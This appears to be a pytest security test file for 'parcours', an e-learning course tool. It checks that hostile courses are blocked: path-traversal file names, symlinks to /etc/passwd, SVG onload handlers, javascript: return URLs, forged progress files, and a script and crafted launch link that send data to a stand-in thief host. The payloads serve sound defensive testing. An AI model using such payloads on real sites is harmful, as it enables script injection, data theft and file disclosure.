"""Attacks a security review tries, one test per class, against the release build in Chromium and the
`parcours` binary: script through a course, files outside the course folder, a folder removed that
`build` did not write, and a crafted launch link. (The `/xapi/` proxy's rules: test_lrs.py.)"""

import json
import os
import subprocess
import tempfile
import time
import zipfile
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
import requests
from selenium.webdriver.common.by import By

from conftest import ROOT
from lrs import free_port
from test_lms import ACTOR, cmi5_lms, cmi5_package, course_json, launch_url  # noqa: F401 (fixtures)
from test_player import heading, link, wait

PARCOURS = ROOT / "target" / "release" / "parcours"
# Where the hostile course's payloads would send what they stole: a foreign origin.
THIEF = "127.0.0.2"


def parcours(*args, **kwargs):
    return subprocess.run([str(PARCOURS), *map(str, args)], capture_output=True, text=True, timeout=120, **kwargs)


def requested_urls(browser):
    """Every URL the page asked for since the last call (Chromium's performance log)."""
    urls = []
    for entry in browser.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message.get("method") == "Network.requestWillBeSent":
            urls.append(message["params"]["request"]["url"])
    return urls


def assert_no_script_ran(browser):
    assert browser.execute_script("return window.pwned") is None, "a course's script ran in the page"
    stolen = [url for url in requested_urls(browser) if urlsplit(url).hostname == THIEF]
    assert stolen == [], f"the page sent requests to a foreign origin: {stolen}"


def test_a_hostile_course_runs_no_script_and_a_broken_assessment_cannot_start(browser, site):
    browser.get(f"{site}/learn/hostile/piege")
    heading(browser, "Leçon piégée")
    wait(browser).until(lambda b: "Texte lisible après les pièges" in b.page_source)
    # Scrolled through, so that `content-visibility` handlers would fire if they were there.
    browser.execute_script("window.scrollTo(0, document.body.scrollHeight)")
    questions = wait(browser).until(lambda b: b.find_elements(By.CSS_SELECTOR, "fieldset.question"))
    assert len(questions) == 2, "both hostile questions are shown, defused"
    for question in questions:
        question.find_element(By.XPATH, ".//label[contains(., 'Vrai')]//input").click()
        question.find_element(By.CSS_SELECTOR, "button.check").click()
    wait(browser).until(lambda b: len(b.find_elements(By.CSS_SELECTOR, "fieldset.question .feedback")) == 2)
    lesson = browser.find_element(By.TAG_NAME, "main")
    for element in lesson.find_elements(By.CSS_SELECTOR, "*"):
        names = browser.execute_script("return Array.from(arguments[0].attributes, a => a.name)", element)
        assert not [n for n in names if n.startswith("on")], f"event handler kept on <{element.tag_name}>: {names}"
        assert not element.get_attribute("style") or element.tag_name in ("td", "th"), element.tag_name
    assert not lesson.find_elements(By.CSS_SELECTOR, "script, svg, iframe, object")
    assert "<img src=x onerror=" in lesson.text, "raw HTML written by the author is shown as text"
    assert_no_script_ran(browser)

    # Every question of the assessment is broken: it says so, and offers nothing to start.
    browser.find_element(By.XPATH, "//a[contains(., 'Évaluation cassée')]").click()
    heading(browser, "Évaluation cassée")
    status = wait(browser).until(lambda b: b.find_element(By.CSS_SELECTOR, ".status[role=alert]")).text
    assert "ne peut pas commencer" in status
    assert not browser.find_elements(By.XPATH, "//button[contains(., 'Commencer')]")
    panics = [e["message"] for e in browser.get_log("browser") if "panicked" in e["message"]]
    assert panics == []
    assert_no_script_ran(browser)


def hostile_folder(course):
    """Adds to a course folder what a hostile or careless author could put there."""
    (course / "x\\..\\..\\..\\evil.txt").write_text("written outside the output")
    os.symlink("/etc/passwd", course / "passwd.md")
    os.symlink(".", course / "a")
    os.symlink(".", course / "b")
    (course / "page.html").write_text("<script>fetch('http://127.0.0.2:9/'+localStorage.length)</script>")
    (course / "image.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>')


def test_a_course_folder_publishes_no_link_no_script_and_nothing_outside_it(tmp_path):
    course = tmp_path / "work" / "deep" / "mon-cours"
    course.parent.mkdir(parents=True)
    assert parcours("new", course).returncode == 0
    hostile_folder(course)

    checked = parcours("check", course)
    assert checked.returncode == 1
    for expected in [
        "x\\..\\..\\..\\evil.txt: this file name cannot be published",
        "passwd.md: a symbolic link is not published",
        "a: a symbolic link is not published",
        "page.html: this type of file is not published",
        "this SVG image holds an event handler attribute (`onload`)",
    ]:
        assert expected in checked.stderr, checked.stderr
    assert "root:" not in checked.stderr, "the linked /etc/passwd was read"

    site = tmp_path / "site"
    built = parcours("build", course, "-o", site)
    assert built.returncode != 0 and not site.exists(), built.stderr
    packaged = parcours("package", course, "--scorm12", "-o", tmp_path / "p.zip")
    assert packaged.returncode != 0 and not (tmp_path / "p.zip").exists()
    for folder in [tmp_path, tmp_path / "work", tmp_path / "work" / "deep", Path(tempfile.gettempdir())]:
        assert not (folder / "evil.txt").exists(), folder

    # The preview serves only what would be published.
    port = free_port()
    with open(tmp_path / "preview.log", "w") as log:
        preview = subprocess.Popen([str(PARCOURS), "preview", str(course), "--port", str(port)], stdout=log, stderr=log)
    try:
        base = f"http://127.0.0.1:{port}/courses/mon-cours"
        for _ in range(200):
            try:
                if requests.get(f"{base}/course.toml", timeout=2).status_code == 200:
                    break
            except requests.ConnectionError:
                pass
            assert preview.poll() is None, (tmp_path / "preview.log").read_text()
            time.sleep(0.1)
        else:
            pytest.fail("the preview never served the course's own files")
        for unpublished in ["passwd.md", "page.html", "image.svg", "a/course.toml", "x%5C..%5C..%5C..%5Cevil.txt"]:
            answer = requests.get(f"{base}/{unpublished}", timeout=10)
            assert answer.status_code == 404, (unpublished, answer.status_code)
            assert "root:" not in answer.text
    finally:
        preview.terminate()
        preview.wait(timeout=10)

    # Once the author removes them, the same course builds and packages, entries all inside.
    for name in ["x\\..\\..\\..\\evil.txt", "passwd.md", "a", "b", "page.html", "image.svg"]:
        (course / name).unlink()
    assert parcours("build", course, "-o", site).returncode == 0
    assert parcours("package", course, "--cmi5", "-o", tmp_path / "p.zip").returncode == 0
    with zipfile.ZipFile(tmp_path / "p.zip") as package:
        for name in package.namelist():
            assert not name.startswith("/") and ".." not in name.split("/") and "\\" not in name, name


def test_build_removes_only_a_folder_it_wrote_itself(tmp_path):
    course = tmp_path / "mon-cours"
    assert parcours("new", course).returncode == 0
    web_root = tmp_path / "www"
    (web_root / "courses").mkdir(parents=True)
    (web_root / "index.html").write_text("<h1>Le site du ministère</h1>")
    (web_root / "courses" / "index.json").write_text("{}")
    (web_root / "rapport.pdf").write_text("à garder")
    refused = parcours("build", course, "-o", web_root)
    assert refused.returncode != 0 and "was not written by `parcours build`" in refused.stderr, refused.stderr
    assert (web_root / "rapport.pdf").read_text() == "à garder"
    assert (web_root / "index.html").read_text() == "<h1>Le site du ministère</h1>"

    site = tmp_path / "site"
    assert parcours("build", course, "-o", site).returncode == 0
    assert (site / ".parcours-site").is_file()
    assert parcours("build", course, "-o", site).returncode == 0, "a site build wrote is replaced"


def test_a_crafted_launch_link_on_a_normal_site_is_not_obeyed(browser, site):
    browser.get(f"{site}/learn/demo/bienvenue")
    heading(browser, "Bienvenue")
    key = "parcours:progress:https://parcours.example.org/courses/demo"
    stored = wait(browser).until(lambda b: b.execute_script("return localStorage.getItem(arguments[0])", key))
    registration = json.loads(stored)["registration"]
    requested_urls(browser)

    crafted = {
        "endpoint": f"http://{THIEF}:9/xapi/",
        "fetch": f"http://{THIEF}:9/fetch",
        "actor": json.dumps({"objectType": "Agent", "account": {"homePage": "https://evil.example", "name": "x"}}),
        "registration": "00000000-0000-4000-8000-000000000000",
        "activityId": "https://evil.example/au",
    }
    browser.get(f"{site}/learn/demo/naviguer?{urlencode(crafted)}")
    heading(browser, "Naviguer")
    assert not browser.find_elements(By.CSS_SELECTOR, ".lms-status"), "no launch was attempted"
    assert not browser.find_elements(By.XPATH, "//button[contains(., 'Quitter le module')]")
    wait(browser).until(lambda b: "naviguer" in (b.execute_script("return localStorage.getItem(arguments[0])", key) or ""))
    kept = json.loads(browser.execute_script("return localStorage.getItem(arguments[0])", key))
    assert kept["registration"] == registration, "the learner's progress was not set aside"
    assert_no_script_ran(browser)


@pytest.mark.parametrize("return_url", ["javascript:window.pwned=1", " JaVa\tScript:window.pwned=1"])
def test_a_return_url_that_would_run_script_is_never_followed(browser, cmi5_lms, return_url):
    lms = cmi5_lms
    launch = lms.launch(ACTOR, "https://parcours.example.org/courses/demo/au", return_url=return_url)
    browser.get(launch_url(lms.package_url, launch))
    heading(browser, course_json("demo")["title"])
    browser.find_element(By.XPATH, "//button[contains(., 'Quitter le module')]").click()
    wait(browser).until(lambda b: any(s["verb"]["id"].endswith("/terminated") for s in lms.statements_of(launch)))
    assert browser.execute_script("return window.pwned") is None
    assert browser.current_url.startswith(lms.package_url.rsplit("/", 1)[0])


def test_the_player_runs_under_its_content_security_policy(browser, site):
    browser.get(f"{site}/learn/demo/exercice")
    heading(browser, "S'exercer")
    policy = browser.execute_script(
        "return document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content")
    assert policy and "script-src 'self' 'wasm-unsafe-eval' 'sha256-" in policy and "object-src 'none'" in policy
    choice = wait(browser).until(lambda b: b.find_element(By.CSS_SELECTOR, "fieldset.question input[type=radio]"))
    question = choice.find_element(By.XPATH, "./ancestor::fieldset")
    choice.click()
    question.find_element(By.CSS_SELECTOR, "button.check").click()
    wait(browser).until(lambda b: question.find_elements(By.CSS_SELECTOR, ".feedback"))
    # An inline script the policy does not list is refused: the policy is enforced, not decorative.
    browser.execute_script("const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
                           "document.head.appendChild(s);")
    assert browser.execute_script("return window.pwned") is None
    refused = [e["message"] for e in browser.get_log("browser") if "Content Security Policy" in e["message"]]
    assert len(refused) == 1 and "inline script" in refused[0], refused


def test_a_hand_edited_progress_file_earns_no_pass_and_no_attestation(browser, site, tmp_path):
    from test_progress import KEY, reach_end

    browser.get(f"{site}/learn/demo/bienvenue")
    reach_end(browser)
    stored = wait(browser).until(lambda b: b.execute_script("return localStorage.getItem(arguments[0])", KEY))
    forged = json.loads(stored)
    now = forged["updated_at"]
    for lesson in ["bienvenue", "naviguer", "mise-en-forme", "exercice", "conclusion"]:
        forged["lessons"][lesson] = {"visited_at": now, "completed_at": now}
    perfect = {"raw": 5.0, "max": 5.0, "scaled": 1.0, "passed": True}
    forged["attempts"] = {"evaluation": [{"score": perfect, "responses": {}, "started_at": now, "finished_at": now}]}
    forged["completed_at"] = forged["passed_at"] = now + 10 ** 12
    file = tmp_path / "progression.json"
    file.write_text(json.dumps({"format": "parcours-progress", "progress": forged}))

    link(browser, "Présentation du parcours").click()
    panel = wait(browser).until(lambda b: b.find_element(By.CSS_SELECTOR, ".progress-panel"))
    panel.find_element(By.CSS_SELECTOR, "input[type=file]").send_keys(str(file))
    wait(browser).until(lambda b: "Progression importée." in panel.text)
    wait(browser).until(lambda b: "Leçons terminées : 5 sur 5" in panel.text)
    kept = json.loads(browser.execute_script("return localStorage.getItem(arguments[0])", KEY))
    assert [a["score"]["passed"] for a in kept["attempts"]["evaluation"]] == [False]
    assert kept["attempts"]["evaluation"][0]["score"]["raw"] == 0
    assert kept["passed_at"] is None and kept["completed_at"] <= now + 60_000
    browser.get(f"{site}/learn/demo/attestation")
    heading(browser, "Attestation de suivi")
    assert "sera disponible quand vous aurez terminé" in browser.find_element(By.TAG_NAME, "main").text


def test_a_site_that_sends_nothing_keeps_no_record(browser, tmp_path):
    from conftest import Site, copy_site

    root = copy_site(tmp_path / "site")
    (root / "config.json").write_text('{ "lrs": null }\n')
    served = Site(root)
    try:
        browser.get(f"{served.url}/learn/demo/bienvenue")
        heading(browser, "Bienvenue")
        browser.get(f"{served.url}/learn/demo/naviguer")
        heading(browser, "Naviguer")
        # The visit is saved (its statements were made just before, if they were made at all).
        wait(browser).until(lambda b: "naviguer" in (b.execute_script(
            "return localStorage.getItem('parcours:progress:https://parcours.example.org/courses/demo')") or ""))
        queued = browser.execute_script(
            "return Object.keys(localStorage).filter(k => k.startsWith('parcours:xapi:queue:'))")
        assert queued == [], "records that will never be sent are not kept"
    finally:
        served.close()
